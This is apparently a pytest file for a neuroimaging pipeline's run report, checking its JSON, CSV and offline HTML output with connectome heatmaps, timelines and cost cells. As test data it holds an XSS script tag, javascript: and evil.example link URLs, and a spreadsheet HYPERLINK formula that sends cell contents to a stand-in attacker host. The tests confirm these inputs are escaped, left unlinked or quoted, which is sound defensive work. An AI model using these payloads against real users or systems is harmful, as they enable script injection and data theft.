"""The run report follows the design contract: summary counts, one row per scan, CSV."""

from __future__ import annotations

import csv
import io
import json
import re
from html import escape
from html.parser import HTMLParser

import pytest

from ndmg_cloud.participant.params import resolve
from ndmg_cloud.participant.verify import ScanResult
from ndmg_cloud.report.runreport import CSV_COLUMNS, build_report, report_csv

from helpers import count_calls

CONTRACT_ROW = {
    "scan_id",
    "subject",
    "session",
    "status",
    "job_id",
    "attempts",
    "started_at",
    "stopped_at",
    "duration_s",
    "cost_usd",
    "outputs",
    "missing",
    "reason",
    "log_url",
}
CONTRACT_SUMMARY = {"discovered", "invalid", "skipped_done", "submitted", "succeeded", "failed", "missing_outputs", "cost_usd"}


def sample_run_report():
    config = resolve({"bucket": "lab-data", "bidsdir": "ds1"}, "run1")
    rows = [
        ScanResult(
            "sub-01_ses-1", "01", "1", "succeeded", job_id="j1", attempts=1, duration_s=3600.0, cost_usd=0.126, outputs=["a.csv", "b.csv"]
        ),
        ScanResult(
            "sub-02", "02", None, "failed", job_id="j2", attempts=2, cost_usd=0.01, reason="Essential container in task exited; exit code 1"
        ),
        ScanResult("sub-03_ses-1", "03", "1", "missing_outputs", job_id="j3", missing=["x.csv"]),
        ScanResult("sub-04_ses-1", "04", "1", "invalid", reason="no .bvec file"),
    ]
    return build_report(config, rows, "2026-11-24T10:00:00+00:00", "2026-11-24T11:00:00+00:00", submitted=3)


def sample_report():
    return sample_run_report().to_dict()  # report.json


def test_report_json_shape():
    report = sample_report()
    assert {"dataset", "run_id", "params", "started_at", "finished_at", "summary", "scans"} <= set(report)
    assert report["dataset"] == "ds1" and report["run_id"] == "run1"
    assert CONTRACT_SUMMARY <= set(report["summary"])
    assert report["summary"] == {
        "discovered": 4,
        "invalid": 1,
        "skipped_done": 0,
        "submitted": 3,
        "new_scans": 0,
        "succeeded": 1,
        "failed": 1,
        "missing_outputs": 1,
        "dry_run": 0,
        "cost_usd": 0.136,
        "failure_classes": {},
        "throttled_polls": 0,
        "invalid_not_listed": 0,
        "waiting_for_files": 0,
    }
    for row in report["scans"]:
        assert CONTRACT_ROW <= set(row)


def test_failing_rows_are_failed_and_missing_outputs():
    assert [r.scan_id for r in sample_run_report().failing] == ["sub-02", "sub-03_ses-1"]


def test_the_report_reads_back_by_field_and_an_older_report_still_reads():
    from ndmg_cloud.report.runreport import RunReport

    written = json.loads(json.dumps(sample_report()))
    back = RunReport.from_dict(written)
    assert back == sample_run_report() and back.to_dict() == written
    assert back.summary.succeeded == 1 and back.scans[1].reason.startswith("Essential container")
    older = {k: v for k, v in written.items() if k not in ("lease", "pilots", "connectomes", "contract", "backend", "cost_basis")}
    older["summary"] = {
        k: v for k, v in written["summary"].items() if k not in ("throttled_polls", "invalid_not_listed", "new_scans", "waiting_for_files")
    }
    older["scans"] = [
        {k: v for k, v in row.items() if k not in ("graphs", "pilot", "new", "waiting_for_files")} | {"retired_field": 1}
        for row in written["scans"]
    ]
    read = RunReport.from_dict(older)
    assert read.summary.throttled_polls == 0 and read.summary.new_scans == 0 and not read.scans[0].new
    assert read.contract is None and [r.status for r in read.failing] == ["failed", "missing_outputs"]


def test_csv_has_one_row_per_scan():
    rows = list(csv.DictReader(io.StringIO(report_csv(sample_report()))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["status"] for r in rows] == ["succeeded", "failed", "missing_outputs", "invalid"]
    assert rows[0]["outputs"] == "a.csv;b.csv"
    assert rows[1]["session"] == ""


def test_html_is_self_contained_and_shows_every_scan():
    from html.parser import HTMLParser

    from ndmg_cloud.report.runreport import report_html

    report = sample_report()
    report["scans"][0].update(started_at="2026-11-24T10:00:00+00:00", stopped_at="2026-11-24T11:00:00+00:00")
    report["scans"][1].update(
        started_at="2026-11-24T10:10:00+00:00",
        stopped_at="2026-11-24T10:20:00+00:00",
        log_url="https://us-east-1.console.aws.amazon.com/cloudwatch/home#x",
    )
    report["scans"][1]["reason"] = "<script>alert(1)</script>"
    page = report_html(report)

    class Links(HTMLParser):
        external = []

        def handle_starttag(self, tag, attrs):
            attrs = dict(attrs)
            inline = (attrs.get("src") or "").startswith("data:")
            if tag in ("script", "link") or (tag != "a" and attrs.get("src") and not inline):
                self.external.append((tag, attrs))

    parser = Links()
    parser.feed(page)
    assert parser.external == []  # no scripts, stylesheets or images to fetch: opens offline
    for scan_id in ("sub-01_ses-1", "sub-02", "sub-03_ses-1", "sub-04_ses-1"):
        assert scan_id in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # reasons are escaped
    assert page.count("<rect ") == 2  # two jobs with times on the timeline
    assert "wall time 3600.0 s" in page
    assert 'href="https://us-east-1.console.aws.amazon.com/cloudwatch/home#x"' in page
    assert "$0.14" in page
    cells = re.findall(r'<td class="cost" title="([^"]*)">([^<]*)</td>', page)
    assert [text for _, text in cells] == ["$0.126", "$0.010", "—", "—"]  # never an empty cell
    assert "on-demand" in cells[0][0] and cells[3][0] == "no job ran for this scan in this run"


@pytest.mark.parametrize(
    "url, linked",
    [
        ("https://us-east-1.console.aws.amazon.com/cloudwatch/home#x", True),
        ("http://localhost:8080/dags/ndmg_participant/runs/r/tasks/run_scan_local", True),  # the embedded stack
        ("javascript:alert(document.cookie)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("http://evil.example/steal", False),
        ("//evil.example/x", False),
    ],
)
def test_report_links_are_https_or_this_machine_only(url, linked):
    from ndmg_cloud.report.runreport import report_html

    report = sample_report()
    report["scans"][1]["log_url"] = url
    page = report_html(report)
    assert (f'href="{escape(url)}"' in page) is linked


def test_estimate_on_demand_versus_spot():
    from ndmg_cloud.participant.cost import CostEstimate, estimate

    guess = estimate(100, "m2g", hours_per_scan=1.0)
    assert guess == CostEstimate(scans=100, instance_hours=100.0, vcpu_hours=200.0, on_demand_usd=12.6, spot_usd=5.04)
    assert str(guess) == "100.0 instance-hours (200.0 vCPU-hours) of r5.large: about $12.60 on-demand, $5.04 on Spot"


def test_report_link_targets():
    from ndmg_cloud.orchestration.links import airflow_report_url, report_html_uri

    uri = "s3://lab-data/ds/derivatives/ndmg/reports/manual__2026-11-24T10:00:00+00:00/report.json"
    assert report_html_uri(uri) == uri.removesuffix("report.json") + "report.html"
    assert airflow_report_url("http://127.0.0.1:8080/", "manual__2026-11-24T10:00:00+00:00") == (
        "http://127.0.0.1:8080/ndmg-cloud/dags/ndmg_participant/runs/manual__2026-11-24T10%3A00%3A00%2B00%3A00/report"
    )


# ------------------------------------------------------------- connectome figures, on S3
BUCKET = "lab-data"
RUN_ID = "manual__2026-11-24T10:00:00+00:00"
T0_MS = 1795514400000  # 2026-11-24 10:00:00 UTC
EDGES = {  # scan -> its lite edge list (m2g's: node 0 the background, i < j, streamline counts)
    "sub-01_ses-retest": "1 2 7.0\n1 3 1.0\n2 3 30.0\n3 6 2.0\n",
    "sub-01_ses-test": "1 4 4.0\n4 5 9.0\n",
    "sub-02": "2 3 1.0\n",
    "sub-03_ses-1_acq-AP": "1 2 2.0\n1 8 5.0\n",
}
FAILS = "sub-05_ses-1"


class Page(HTMLParser):
    """The <img> tags, <text class="tick"> labels and links of report.html."""

    def __init__(self, html):
        super().__init__()
        self.imgs, self.ticks, self.links, self._tick = [], [], [], False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "img":
            self.imgs.append(attrs)
        elif tag == "a":
            self.links.append(attrs.get("href"))
        self._tick = tag == "text" and attrs.get("class") == "tick"

    def handle_data(self, data):
        if self._tick:
            self.ticks.append(data)
            self._tick = False

    def of_class(self, name):
        return {img["data-scan"]: img for img in self.imgs if img.get("class") == name}


@pytest.fixture
def lite_run(s3):
    """A local lite run's outputs on S3: four scans with connectomes (three with the QA
    image lite draws), one failed scan that wrote nothing; and their job records."""
    from ndmg_cloud.core.bids import discover_scans
    from ndmg_cloud.core.pipelines import get_pipeline
    from ndmg_cloud.participant.jobs import FAILED, SUCCEEDED, JobRecord
    from ndmg_cloud.report.figures import heatmap, parse_connectome

    from datasets import E2E_KEYS

    s3.create_bucket(Bucket=BUCKET)
    config = resolve({"bucket": BUCKET, "bidsdir": "ds", "pipeline": "lite", "backend": "local"}, RUN_ID)
    wanted = {*EDGES, FAILS, "sub-04_ses-1"}
    scans = [s for s in discover_scans(["ds/" + k for k in E2E_KEYS], "ds/").scans if s.scan_id in wanted]
    jobs, qa_images = {}, {}
    for n, scan in enumerate(s for s in scans if s.valid):
        start = T0_MS + 60_000 + n * 120_000
        ok = scan.scan_id in EDGES
        jobs[scan.scan_id] = JobRecord(
            f"local-{scan.scan_id}",
            SUCCEEDED if ok else FAILED,
            attempts=1,
            started_ms=start,
            stopped_ms=start + 300_000,
            reason=None if ok else "pipeline exited with code 1",
        )
        if not ok:
            continue
        prefix = config.outputs.scan_prefix(scan)
        [csv_path] = get_pipeline("lite").expected_outputs(scan, config.options)
        body = EDGES[scan.scan_id].encode()
        s3.put_object(Bucket=BUCKET, Key=prefix + csv_path, Body=body)
        outputs = [{"path": csv_path, "size": len(body)}]
        if scan.scan_id != "sub-01_ses-test":  # this one drew no QA image
            qa = heatmap(parse_connectome(body)).png  # any PNG: it must come back byte for byte
            qa_path = "qa_d/graphs_plotting/" + csv_path.rsplit("/", 1)[1].replace(".csv", ".png")
            s3.put_object(Bucket=BUCKET, Key=prefix + qa_path, Body=qa)
            outputs.append({"path": qa_path, "size": len(qa)})
            qa_images[scan.scan_id] = qa
        manifest = {
            "status": "success",
            "run_id": RUN_ID,
            "outputs": outputs,
            "pipeline": {"name": "lite", "options": config.options, "contract": {"label": "ndmg-lite 1234abcd"}},
            "log_tail": ["running: ndmg-lite ...", f"ndmg-lite {scan.dwi_stem}: {100 + n} streamlines in 1.0 s"],
        }
        s3.put_object(Bucket=BUCKET, Key=config.outputs.manifest_key(scan), Body=json.dumps(manifest))
    return config, scans, jobs, qa_images


def make_report(s3, config, scans, jobs, **limits):
    from ndmg_cloud.participant.verify import output_listing, verify_scans
    from ndmg_cloud.report.runreport import read_connectomes, write_report

    listing = output_listing(config, s3)
    rows = verify_scans(config, scans, jobs, s3, listing=listing)
    connectomes = read_connectomes(config, scans, rows, listing, s3, **limits)
    report = build_report(
        config, rows, "2026-11-24T10:00:00+00:00", "2026-11-24T10:20:00+00:00", submitted=len(jobs), connectomes=connectomes.summary
    )
    write_report(s3, config, report, connectomes)
    prefix = config.outputs.report_prefix(config.run_id)
    html = s3.get_object(Bucket=BUCKET, Key=prefix + "report.html")["Body"].read().decode()
    stored = json.loads(s3.get_object(Bucket=BUCKET, Key=prefix + "report.json")["Body"].read())
    return html, stored, s3.get_object(Bucket=BUCKET, Key=prefix + "report.csv")["Body"].read().decode()


def test_report_html_draws_each_succeeded_scans_connectome_from_its_edge_list(s3, lite_run):
    from test_figures import data_uri_png, decode_png

    from ndmg_cloud.report.figures import colour_index

    config, scans, jobs, qa_images = lite_run
    calls = count_calls(s3)
    html, report, csv_text = make_report(s3, config, scans, jobs)

    # one listing, one GET per manifest, per connectome and per embedded QA image; no HEAD
    assert calls["ListObjectsV2"] == 1 and calls["HeadObject"] == 0
    assert calls["GetObject"] == 2 * len(EDGES) + len(qa_images) + 3  # + the test's reads of the report
    page = Page(html)
    heatmaps = page.of_class("heatmap")
    assert sorted(heatmaps) == sorted(EDGES)  # one per succeeded scan, none for the failed one
    for scan_id, edges in EDGES.items():
        triples = [tuple(int(float(v)) for v in line.split()) for line in edges.splitlines()]
        weights = {(i, j): w for i, j, w in triples} | {(j, i): w for i, j, w in triples}
        strongest = max(weights.values())
        _, pixels = decode_png(data_uri_png(heatmaps[scan_id]["src"]))
        assert len(pixels) == max(j for _, j, _ in triples)  # nodes 1..last: the background is not drawn
        for a, row in enumerate(pixels, start=1):
            for b, index in enumerate(row, start=1):
                assert index == colour_index(weights.get((a, b), 0), strongest), (scan_id, a, b)
    # the QA image lite drew, inline and byte for byte; a scan without one says so
    qa = page.of_class("qa")
    assert sorted(qa) == sorted(qa_images)
    assert all(data_uri_png(qa[s]["src"]) == body for s, body in qa_images.items())
    assert "the pipeline wrote no QA image" in html

    rows = {r["scan_id"]: r for r in report["scans"]}
    assert rows["sub-01_ses-retest"]["graphs"] == {
        "grid3": {
            "path": "connectomes_d/grid3/sub-01_ses-retest_dwi_grid3_connectome.csv",
            "nodes": 6,
            "first_node": 1,
            "connected_nodes": 4,
            "edges": 4,
            "self_loops": 0,
            "density": 0.2667,
            "total_weight": 40,
            "max_weight": 30,
            "qa_image": "qa_d/graphs_plotting/sub-01_ses-retest_dwi_grid3_connectome.png",
        }
    }
    assert rows["sub-01_ses-retest"]["streamlines"] == 100  # from lite's log line in the manifest
    assert rows[FAILS]["status"] == "failed" and rows[FAILS]["graphs"] == {} and rows[FAILS]["streamlines"] is None
    assert report["connectomes"]["scans_embedded"] == 4 and report["connectomes"]["scans_left_out"] == 0
    assert report["connectomes"]["by_parcellation"]["grid3"]["edges"] == {"min": 1, "median": 2.0, "max": 4}
    table = {r["scan_id"]: r for r in csv.DictReader(io.StringIO(csv_text))}
    assert (table["sub-01_ses-retest"]["parcellation"], table["sub-01_ses-retest"]["edges"]) == ("grid3", "4")
    assert (table["sub-01_ses-retest"]["density"], table["sub-01_ses-retest"]["streamlines"]) == ("0.2667", "100")
    assert table[FAILS]["edges"] == ""

    # the local backend: not billed, said in each cost cell (with why), not left empty
    cells = re.findall(r'<td class="cost" title="([^"]*)">([^<]*)</td>', html)
    assert [text for _, text in cells].count("not billed") == len(jobs)
    assert all("backend=local" in title for title, text in cells if text == "not billed")
    assert "<b>not billed</b>cost (local backend)" in html


def test_timeline_has_a_time_axis(s3, lite_run):
    config, scans, jobs, _ = lite_run
    html, _, _ = make_report(s3, config, scans, jobs)
    ticks = Page(html).ticks
    assert len(ticks) >= 4 and all(re.fullmatch(r"\d\d:\d\d:\d\d", t) for t in ticks)
    assert ticks[:3] == ["10:00:00", "10:02:00", "10:04:00"]  # from the run's start; the last job ends at 10:14
    assert "+2 min" in html and "+14 min" in html
    assert 'class="load"' in html and "(peak 3)" in html  # jobs of 5 min started every 2 min


def test_what_is_embedded_is_capped_and_the_page_says_what_was_left_out(s3, lite_run):
    config, scans, jobs, qa_images = lite_run
    calls = count_calls(s3)
    html, report, _ = make_report(s3, config, scans, jobs, embed=2, max_qa_bytes=10**6)
    page = Page(html)
    assert len(page.of_class("heatmap")) == 2
    assert len(page.of_class("qa")) == 1  # of the first two scans, one drew a QA image
    words = " ".join(html.split())
    assert "Left out of this page" in words
    assert "the heatmaps of 2 more succeeded scans (only the first 2 are drawn); 2 QA images (shown: those of the first 2" in words
    assert f"{config.output_root.uri()}sub-*/[ses-*/]connectomes_d/" in html
    assert report["connectomes"]["scans_left_out"] == 2
    assert all(r["graphs"]["grid3"]["edges"] for r in report["scans"] if r["scan_id"] in EDGES)  # figures for all
    assert calls["GetObject"] == 2 * len(EDGES) + 1 + 3  # QA images beyond the cap are not fetched

    html, _, _ = make_report(s3, config, scans, jobs, max_qa_bytes=10)  # every QA image is too large
    assert Page(html).of_class("qa") == {} and "QA image not embedded" in html and len(Page(html).of_class("heatmap")) == 4


def test_a_connectome_that_is_not_an_edge_list_is_a_finding(s3, lite_run):
    config, scans, jobs, _ = lite_run
    scan = next(s for s in scans if s.scan_id == "sub-02")
    key = config.outputs.scan_prefix(scan) + "connectomes_d/grid3/sub-02_dwi_grid3_connectome.csv"
    body = b"region,weight\nleft,oops\n"
    s3.put_object(Bucket=BUCKET, Key=key, Body=body)
    manifest_key = config.outputs.manifest_key(scan)
    manifest = json.loads(s3.get_object(Bucket=BUCKET, Key=manifest_key)["Body"].read())
    manifest["outputs"][0]["size"] = len(body)
    s3.put_object(Bucket=BUCKET, Key=manifest_key, Body=json.dumps(manifest))
    html, report, _ = make_report(s3, config, scans, jobs)
    row = next(r for r in report["scans"] if r["scan_id"] == "sub-02")
    assert row["status"] == "succeeded" and row["graphs"]["grid3"]["error"].startswith("unreadable: not numbers")
    assert report["connectomes"]["unreadable"] == 1
    assert "1 connectome file(s) could not be read" in html and "sub-02" not in Page(html).of_class("heatmap")


def test_dry_run_report_reads_nothing(s3, lite_run):
    config, scans, _, _ = lite_run
    config.dry_run = True
    calls = count_calls(s3)
    html, report, _ = make_report(s3, config, scans, {})
    assert calls["GetObject"] == 3 and calls["ListObjectsV2"] == 0  # the test's own reads of the report
    assert "Dry run: no scan ran" in html and Page(html).of_class("heatmap") == {}
    assert report["connectomes"]["files_read"] == 0


def test_local_scans_link_their_task_instance_log_in_the_airflow_ui(monkeypatch):
    from ndmg_cloud.orchestration.participant_tasks import _link_local_logs
    from ndmg_cloud.participant.jobs import SUCCEEDED, JobRecord
    from ndmg_cloud.report.runreport import airflow_log_url

    monkeypatch.setenv("AIRFLOW__API__BASE_URL", "https://airflow.lab.example/")
    config = resolve({"bucket": BUCKET, "bidsdir": "ds", "pipeline": "lite", "backend": "local"}, RUN_ID)

    class TI:
        dag_id = "ndmg_participant"

        def xcom_pull(self, task_ids):
            assert task_ids == "release_scans"  # run_scan_local maps over its list
            return [{"scan_id": "sub-01", "job_spec_uri": "x"}, {"scan_id": "sub-02", "job_spec_uri": "y"}]

    jobs = {s: JobRecord(f"local-{s}", SUCCEEDED) for s in ("sub-02", "sub-01")}
    _link_local_logs(TI(), None, config, jobs)
    assert jobs["sub-02"].log_url == (
        "https://airflow.lab.example/dags/ndmg_participant/runs/manual__2026-11-24T10%3A00%3A00%2B00%3A00/tasks/run_scan_local/mapped/1"
    )
    assert jobs["sub-01"].log_url.endswith("/tasks/run_scan_local/mapped/0")
    assert airflow_log_url("http://x:8080", "d", "r", "t") == "http://x:8080/dags/d/runs/r/tasks/t"

    report = build_report(config, [], "2026-11-24T10:00:00+00:00", "2026-11-24T10:01:00+00:00", submitted=2).to_dict()
    report["scans"] = [
        {**ScanResult("sub-02", "02", None, "succeeded").to_dict(), "job_id": "local-sub-02", "log_url": jobs["sub-02"].log_url}
    ]
    from ndmg_cloud.report.runreport import report_html

    html = report_html(report)
    assert f'<a href="{jobs["sub-02"].log_url}" title="the task instance in the Airflow UI">Airflow log</a>' in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_text(start):
    """A reason (from a pipeline's own output, or a dataset's file names) that a spreadsheet
    takes for a formula: report.csv and group.csv quote it, and keep numbers as numbers."""
    from ndmg_cloud.group.result import GroupResult, LeftOut

    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"open")'
    report = sample_report()
    report["scans"][1]["reason"] = formula
    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
    assert rows[1]["reason"] == "'" + formula
    assert rows[0]["duration_s"] == "3600.0"
    group = GroupResult.__new__(GroupResult)
    group.scans, group.left_out = [], [LeftOut("sub-02", "02", None, "missing", formula)]
    (left,) = csv.DictReader(io.StringIO(group.csv_text()))
    assert left["reason"] == "'" + formula
